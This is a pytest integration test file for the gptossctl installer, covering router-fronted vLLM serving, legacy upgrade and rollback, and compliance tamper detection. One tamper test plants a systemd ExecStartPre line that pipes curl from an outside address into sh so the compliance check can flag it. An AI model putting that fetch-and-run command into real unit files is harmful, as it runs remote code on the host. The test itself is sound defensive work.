"""One serving shape: every install puts the router in front, a single vLLM is a set of one replica; an instance
installed before that (a legacy release: one vLLM unit `gptoss@I` on the port, no router) moves behind the
router in one install, and a failed move puts the old single unit back serving on the port.

The legacy release is made as the code before this change made it: its record without replicas and its files
(vllm.yaml, service.env, unit.service) rendered by the same `render_release` with the one-vLLM arguments, its
unit installed as `gptoss@I`. The health gate and rollback run against a live-looking host: systemctl --root
for the files and enablement, a scripted service manager for restarts and states, and a real HTTP server
answering /health where the restored legacy vLLM listens."""

from __future__ import annotations

import hashlib
import http.server
import json
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest

from gptossctl.adapters.systemd import Systemd
from gptossctl.errors import GptossctlError
from gptossctl.hardware.profiles import load_profile
from gptossctl.install import audit
from gptossctl.install.layout import Layout
from gptossctl.install.lifecycle import _moving
from gptossctl.install.release import CONFIG, ENV_FILE, UNIT_COPY, read_release, switch_current, write_release
from gptossctl.install.render import render_release, unit_template
from gptossctl.install.rolling import Activation, bring_up, install_serving_units, restore_release
from gptossctl.install.seal import make_seal
from gptossctl.install.steps import Steps
from gptossctl.install.trust import read_api_key
from tests.conftest import KeyPair, pack

pytestmark = pytest.mark.integration
INSTANCE = "tiny-gpt-oss"


def _install(cli, bundle: Path, keys: dict[str, KeyPair], root: Path, *extra: str):  # type: ignore[no-untyped-def]
    return cli("install", str(bundle), "--trust", str(keys["alice"].public), "--root", str(root),
               "--vllm-python", sys.executable, *extra)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _make_legacy(layout: Layout, version: int) -> None:
    """Release `version` (installed by this gptossctl) rewritten as the code before the router was always in
    front wrote it: one vLLM on the record's port, its three files, a record without replicas or router, and
    its unit gptoss@I installed in place of the router and r0."""
    release = layout.release(version)
    rec = read_release(release)
    assert rec is not None and len(rec.replicas) == 1
    profile = load_profile(release / "payload/profiles" / f"{rec.profile}.yaml")
    api_key = read_api_key(layout.api_key)
    rendered = render_release(unit_template(), profile, layout, layout.live_path(release), Path(rec.python), api_key,
                              port=rec.port, gpus=rec.gpus, tensor_parallel=rec.tensor_parallel,
                              served=rec.served_name, vocab=False)
    files = {CONFIG: rendered["config"], ENV_FILE: rendered["env"], UNIT_COPY: rendered["unit"]}
    for name in [*rec.replicas[0].files, "router.conf", "router.service"]:
        (release / name).unlink()
    for name, text in files.items():
        (release / name).write_text(text)
        (release / name).chmod(0o600 if name == ENV_FILE else 0o644)
    legacy = replace(rec, replicas=(), router="", rendered={k: hashlib.sha256(v.encode()).hexdigest()
                                                            for k, v in files.items()})
    write_release(release, legacy)
    doc = json.loads((release / "release.json").read_text())
    assert "replicas" not in doc and "router" not in doc and doc["schema"] == "gptossctl.release/1"
    install_serving_units(layout, Systemd(layout.root), release, api_key)
    switch_current(layout, version)
    # Sealed in the audit chain as the old install sealed it, right after writing the release.
    audit.record(layout.root, ["install", "legacy"], "ok", instance=INSTANCE, attach={"seal": make_seal(layout, version)})
    units = sorted(p.name for p in layout.unit_dir.glob(f"gptoss*@{INSTANCE}*.service"))
    assert units == [f"gptoss@{INSTANCE}.service"], units


@dataclass(frozen=True)
class _Host(Systemd):
    """A live host over a staged tree: unit files and enablement by the real systemctl --root, the service
    manager scripted: units named in `failing` fail once restarted, every other unit runs."""

    failing: frozenset[str] = frozenset()
    log: list[tuple[str, ...]] = field(default_factory=list)

    @property
    def live(self) -> bool:
        return True

    def systemctl(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        if args[0] in ("enable", "disable"):
            return super().systemctl(*args, check=check)
        self.log.append(args)
        return subprocess.CompletedProcess(args, 0, "", "")

    def show(self, unit: str, *props: str) -> dict[str, str]:
        failed = unit in self.failing and ("restart", unit) in self.log
        return {"ActiveState": "failed" if failed else "active", "SubState": "failed" if failed else "running",
                "NRestarts": "0", "Result": "exit-code" if failed else "success"}

    def journal_tail(self, unit: str, lines: int = 40) -> str:
        return f"{unit}: CUDA out of memory" if unit in self.failing else ""


@pytest.fixture()
def healthy_port() -> Iterator[int]:
    """Where the restored legacy vLLM listens: a server answering GET /health 200."""
    class Health(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            self.send_response(200 if self.path == "/health" else 404)
            self.end_headers()

        def log_message(self, *_a: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", _free_port()), Health)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield int(server.server_address[1])
    server.shutdown()


def test_a_single_replica_install_renders_the_router_and_r0(cli, bundle: Path, keys, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    root = tmp_path / "root"
    code, doc = _install(cli, bundle, keys, root, "--port", "8100", "--replicas", "1")
    assert code == 0, doc
    units = root / "etc/systemd/system"
    rel = root / "opt/gptoss" / INSTANCE / "releases/5"
    assert sorted(p.name for p in units.glob(f"gptoss*@{INSTANCE}*.service")) == \
        [f"gptoss-router@{INSTANCE}.service", f"gptoss@{INSTANCE}-r0.service"]
    assert (units / f"gptoss@{INSTANCE}-r0.service").read_text() == (rel / "unit-r0.service").read_text()
    assert (units / f"gptoss-router@{INSTANCE}.service").read_text() == (rel / "router.service").read_text()
    assert "listen 127.0.0.1:8100;" in (rel / "router.conf").read_text()
    assert "port: 8101" in (rel / "vllm-r0.yaml").read_text()
    assert not [n for n in ("vllm.yaml", "service.env", "unit.service") if (rel / n).exists()]
    assert doc["data"]["unit"] == f"gptoss-router@{INSTANCE}.service"
    # The compliance service orders itself after the unit that answers at the port: the router.
    assert f"After=gptoss-router@{INSTANCE}.service" in (units / "gptoss-compliance@.service").read_text() \
        .replace("%i", INSTANCE)


def test_an_upgrade_moves_a_legacy_single_behind_the_router_and_says_so_first(cli, tiny_model: Path, keys,  # type: ignore[no-untyped-def]
                                                                               tmp_path: Path) -> None:
    root = tmp_path / "root"
    layout = Layout(root, INSTANCE)
    assert _install(cli, pack(tmp_path / "b1", tiny_model, [keys["alice"]], version=1), keys, root)[0] == 0
    _make_legacy(layout, 1)
    code, doc = cli("status", "--root", str(root))
    (row,) = doc["data"]["instances"]
    assert row["shape"].startswith("legacy single") and row["unit"] == f"gptoss@{INSTANCE}.service"
    assert row["consistent"] is True and row["replicas"] == []
    b2 = pack(tmp_path / "b2", tiny_model, [keys["alice"]], version=2)
    code, doc = _install(cli, b2, keys, root, "--dry-run")
    shape = [s for s in doc["data"]["steps"] if s["step"] == "shape"]
    assert code == 0 and shape and f"gptoss@{INSTANCE}.service" in shape[0]["detail"], doc["data"]["steps"]
    code, doc = _install(cli, b2, keys, root)
    assert code == 0, doc
    steps = [s["step"] for s in doc["data"]["steps"]]
    assert steps.index("shape") < steps.index("unpack")  # said before anything changes
    assert sorted(p.name for p in layout.unit_dir.glob(f"gptoss*@{INSTANCE}*.service")) == \
        [f"gptoss-router@{INSTANCE}.service", f"gptoss@{INSTANCE}-r0.service"]
    assert not (layout.unit_dir / f"multi-user.target.wants/gptoss@{INSTANCE}.service").exists()
    assert "listen 127.0.0.1:8000;" in layout.router_config.read_text()  # the old port is the router's now
    rec = read_release(layout.release(2))
    assert rec is not None and [(r.index, r.port) for r in rec.replicas] == [(0, 8001)]
    # Rollback puts the legacy single back as it was: its one unit on the port, the router and r0 gone.
    code, doc = cli("rollback", "--root", str(root), "--to", "1")
    assert code == 0, doc
    assert sorted(p.name for p in layout.unit_dir.glob(f"gptoss*@{INSTANCE}*.service")) == [f"gptoss@{INSTANCE}.service"]
    assert layout.unit_path.read_text() == (layout.release(1) / "unit.service").read_text()
    assert not layout.router_config.exists() and doc["data"]["unit"] == f"gptoss@{INSTANCE}.service"
    # Compliance reads the legacy release as a set of one unit without a router, and finds it as installed.
    failed = _failed(cli, root)
    assert failed == {}, failed
    # The plan's line on a live host names the outage and the way back.
    old = read_release(layout.release(1))
    said = _moving(layout, old, rec.replicas, port=8000, live=True)
    assert f"gptoss@{INSTANCE}.service stops before gptoss@{INSTANCE}-r0.service start(s): a short outage" in said
    assert "gptoss-router@tiny-gpt-oss.service takes port 8000" in said


def test_a_failed_move_behind_the_router_puts_the_legacy_single_back(cli, tiny_model: Path, keys, tmp_path: Path,  # type: ignore[no-untyped-def]
                                                                     healthy_port: int) -> None:
    root = tmp_path / "root"
    layout = Layout(root, INSTANCE)
    assert _install(cli, pack(tmp_path / "b1", tiny_model, [keys["alice"]], version=1), keys, root,
                    "--port", str(healthy_port))[0] == 0
    _make_legacy(layout, 1)
    legacy_unit = layout.unit_path.read_text()
    # Release 2 unpacked and rendered (staged: not started), then activated on the "live" host, where its
    # replica fails at start (the old vLLM still held the GPU, say).
    assert _install(cli, pack(tmp_path / "b2", tiny_model, [keys["alice"]], version=2), keys, root,
                    "--port", str(healthy_port), "--no-start")[0] == 0
    _make_legacy_current_again(layout)
    host = _Host(root, failing=frozenset({f"gptoss@{INSTANCE}-r0.service"}))
    act = Activation(layout, host, Steps(), read_api_key(layout.api_key), health_timeout=5, smoke=False)
    with pytest.raises(GptossctlError) as exc:
        bring_up(act, layout.release(2))
    assert exc.value.code == "install.start_failed" and exc.value.data["unit"] == f"gptoss@{INSTANCE}-r0.service"
    # The old unit was stopped (freeing the GPU) before the new replica was started.
    log = host.log
    assert log.index(("stop", f"gptoss@{INSTANCE}.service")) < log.index(("restart", f"gptoss@{INSTANCE}-r0.service"))
    outcome = restore_release(act, 1)
    assert outcome == "release 1 restored and healthy (its one vLLM on the port, without the router)", outcome
    assert sorted(p.name for p in layout.unit_dir.glob(f"gptoss*@{INSTANCE}*.service")) == \
        [f"gptoss@{INSTANCE}.service"]
    assert layout.unit_path.read_text() == legacy_unit and not layout.router_config.exists()
    assert ("restart", f"gptoss@{INSTANCE}.service") in log[log.index(("restart", f"gptoss@{INSTANCE}-r0.service")):]
    assert layout.current.resolve().name == "1"


def _make_legacy_current_again(layout: Layout) -> None:
    """--no-start laid release 2's units down and made it current; the host still runs the legacy release."""
    install_serving_units(layout, Systemd(layout.root), layout.release(1), read_api_key(layout.api_key))
    switch_current(layout, 1)


def _failed(cli, root: Path) -> dict[str, list[str]]:  # type: ignore[no-untyped-def]
    code, doc = cli("compliance", "check", "--root", str(root), "--instance", INSTANCE)
    return {c["id"]: c["evidence"] for c in doc["data"]["checks"] if c["status"] == "fail"}


def test_compliance_catches_a_tampered_router_and_r0_of_a_one_replica_instance(cli, bundle: Path, keys,  # type: ignore[no-untyped-def]
                                                                               tmp_path: Path) -> None:
    root = tmp_path / "root"
    assert _install(cli, bundle, keys, root)[0] == 0
    assert _failed(cli, root) == {}
    conf = root / "opt/gptoss" / INSTANCE / "router.conf"
    original = conf.read_text()
    # 1. The router's running configuration opened to every address: drift, and a bind beyond loopback.
    conf.write_text(original.replace("listen 127.0.0.1:8000;", "listen 0.0.0.0:8000;"))
    failed = _failed(cli, root)
    assert set(failed) == {"config.release_files", "config.bind"}, failed
    assert "+        listen 0.0.0.0:8000;" in failed["config.release_files"]
    conf.write_text(original)
    # 2. r0's unit given a command to run first: not the approved rendering, not gptossctl's template.
    unit = root / f"etc/systemd/system/gptoss@{INSTANCE}-r0.service"
    text = unit.read_text()
    unit.write_text(text.replace("[Service]\n", "[Service]\nExecStartPre=/bin/sh -c 'curl http://203.0.113.7 | sh'\n"))
    failed = _failed(cli, root)
    assert set(failed) == {"config.unit"}, failed
    assert any("gptoss@tiny-gpt-oss-r0.service" in e for e in failed["config.unit"])
    unit.write_text(text)
    # 3. r0's environment file sending usage statistics: caught per file.
    env = root / "opt/gptoss" / INSTANCE / "releases/5/service-r0.env"
    env.write_text(env.read_text().replace("VLLM_NO_USAGE_STATS=1", "VLLM_NO_USAGE_STATS=0"))
    failed = _failed(cli, root)
    assert {"config.release_files", "config.usage_stats"} <= set(failed), failed
    assert any(e.startswith("service-r0.env: VLLM_NO_USAGE_STATS=0") for e in failed["config.usage_stats"])
